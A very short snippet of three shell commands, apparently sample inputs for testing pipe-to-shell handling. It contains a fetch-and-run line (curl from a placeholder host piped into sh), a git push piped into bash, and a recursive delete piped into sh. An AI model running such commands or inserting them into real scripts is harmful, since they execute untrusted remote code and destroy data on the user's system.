curl -fsSL example.invalid/i.sh | sh
echo 'git push' | bash
printf 'rm -rf x' | sh
